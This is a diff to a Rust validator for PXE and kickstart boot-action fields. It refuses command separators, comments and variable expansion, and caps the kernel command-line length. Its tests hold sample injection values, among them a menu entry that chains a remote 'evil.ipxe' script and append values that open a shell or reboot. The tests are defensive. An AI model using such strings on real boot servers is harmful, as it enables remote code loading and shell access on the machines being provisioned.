@@ -6,7 +6,9 @@
 //! kickstart. Every field that ends up in generated text is validated here
 //! (hostnames per RFC 1123 §2.1, IPv4 addresses and contiguous netmasks,
 //! relative image paths, kernel arguments without spaces or control
-//! characters), so no config or kickstart injection is possible downstream.
+//! characters, and no `;`, `&&`, `||`, `#` or `${` in anything written into
+//! a boot script or onto the kernel line), so no config or kickstart
+//! injection is possible downstream.
 
 mod id;
 pub mod validate;
@@ -18,8 +20,8 @@ use std::collections::VecDeque;
 use std::fmt;
 use std::net::Ipv4Addr;
 use validate::{
-    FieldError, check_hostname, check_image_path, check_kernel_arg, check_netmask, check_text,
-    check_token, parse_ipv4, same_subnet,
+    FieldError, MAX_KERNEL_LINE, check_boot_script_safe, check_hostname, check_image_path,
+    check_kernel_arg, check_netmask, check_text, check_token, parse_ipv4, same_subnet,
 };
 
 /// Which boot loader a machine's boot action runs after the firmware.
@@ -128,8 +130,24 @@ fn opt<T>(
 }
 
 impl BootAction {
-    /// Checks a body for the action called `name`.
+    /// Checks a body for the action called `name`. An `append` that alone
+    /// would not fit on a kernel command line is refused before anything
+    /// else is looked at; whether the whole line fits depends on the
+    /// machines booting the action and is checked when it is stored
+    /// (`boot::kernel_line_len`).
     pub fn from_body(name: &str, b: BootActionBody) -> Result<Self, FieldError> {
+        if let Some(x) = &b.append
+            && x.len() >= MAX_KERNEL_LINE
+        {
+            return Err(FieldError::new(
+                "append",
+                format!(
+                    "is {} bytes; a kernel command line holds at most {} (COMMAND_LINE_SIZE {MAX_KERNEL_LINE} with its terminating NUL)",
+                    x.len(),
+                    MAX_KERNEL_LINE - 1
+                ),
+            ));
+        }
         let name = check_token("name", name)?;
         let label = match b.label.as_deref().map(str::trim) {
             None | Some("") => "linux".to_string(),
@@ -148,6 +166,7 @@ impl BootAction {
             ip: opt(b.ip, |s| check_kernel_arg("ip", s))?,
             load_ramdisk: opt(b.load_ramdisk, |s| check_kernel_arg("load_ramdisk", s))?,
             append: opt(b.append, |s| {
+                check_boot_script_safe("append", s)?;
                 for arg in s.split(' ').filter(|a| !a.is_empty()) {
                     check_kernel_arg("append", arg)?;
                 }
@@ -441,6 +460,107 @@ mod tests {
                 .unwrap_err()
                 .field,
             "name"
+        );
+    }
+
+    /// Sets one of the fields that reach a boot config or the kernel line.
+    fn set_field(b: &mut BootActionBody, field: &str, value: &str) {
+        let v = Some(value.to_string());
+        match field {
+            "default" => b.default = v,
+            "label" => b.label = v,
+            "menu" => b.menu = v,
+            "kernel" => b.kernel = v,
+            "initrd" => b.initrd = v,
+            "ksdevice" => b.ksdevice = v,
+            "ip" => b.ip = v,
+            "load_ramdisk" => b.load_ramdisk = v,
+            "append" => b.append = v,
+            other => panic!("no field {other}"),
+        }
+    }
+
+    const BOOT_LINE_FIELDS: [&str; 9] = [
+        "default",
+        "label",
+        "menu",
+        "kernel",
+        "initrd",
+        "ksdevice",
+        "ip",
+        "load_ramdisk",
+        "append",
+    ];
+
+    #[test]
+    fn bootaction_refuses_the_issue_examples() {
+        for (field, value, seq) in [
+            (
+                "menu",
+                "x ; chain http://198.51.100.9/evil.ipxe ; echo",
+                "\";\"",
+            ),
+            ("append", "console=ttyS0 || shell", "\"||\""),
+            ("append", "console=ttyS0 # ks=http://x", "\"#\""),
+            ("append", "console=ttyS0 #ks=http://x", "\"#\""),
+            ("append", "ip=${net0/ip}", "\"${\""),
+            ("append", "a && reboot", "\"&&\""),
+        ] {
+            let mut b = readme_action();
+            set_field(&mut b, field, value);
+            let e = BootAction::from_body("x", b).unwrap_err();
+            assert_eq!(e.field, field, "{value:?}");
+            assert!(
+                e.message
+                    .starts_with(&format!("contains {seq}; characters that end")),
+                "{e}"
+            );
+        }
+        // 15 KB of otherwise valid arguments: refused for its size, before
+        // anything else is checked (the name here is invalid too).
+        let mut b = readme_action();
+        b.append = Some("console=ttyS0 ".repeat(15 * 1024 / 14));
+        let e = BootAction::from_body("../x", b).unwrap_err();
+        assert_eq!(e.field, "append");
+        assert!(e.message.contains("at most 2047"), "{e}");
+        let mut b = readme_action();
+        b.append = Some("q".repeat(MAX_KERNEL_LINE - 1));
+        assert_eq!(BootAction::from_body("x", b).unwrap_err().field, "append");
+    }
+
+    /// Each field that reaches a boot config or the kernel line refuses
+    /// each sequence, whatever validator it goes through, naming itself.
+    #[test]
+    fn every_boot_line_field_refuses_script_breakers() {
+        for field in BOOT_LINE_FIELDS {
+            for seq in [";", "&&", "||", "#", "${", "\n", "\r", "\0"] {
+                let mut values = vec![format!("centos7{seq}x")];
+                // Leading and trailing whitespace is trimmed off, not refused.
+                if !seq.trim().is_empty() {
+                    values.extend([format!("{seq}centos7"), format!("centos7{seq}")]);
+                }
+                for value in values {
+                    let mut b = readme_action();
+                    set_field(&mut b, field, &value);
+                    let r = BootAction::from_body("x", b);
+                    assert_eq!(
+                        r.map_err(|e| e.field).err().as_deref(),
+                        Some(field),
+                        "{field} = {value:?}"
+                    );
+                }
+            }
+        }
+        // Ordinary values stay valid.
+        let mut b = readme_action();
+        b.append = Some(
+            "console=ttyS0,115200n8 BOOT_IMAGE=x a|b inst.ks=http://h/ks?a=1&b=2 --- quiet".into(),
+        );
+        b.menu = Some("CentOS 7 | x86_64 $5".into());
+        let a = BootAction::from_body("x", b).unwrap();
+        assert_eq!(
+            a.append.as_deref(),
+            Some("console=ttyS0,115200n8 BOOT_IMAGE=x a|b inst.ks=http://h/ks?a=1&b=2 --- quiet")
         );
     }
 
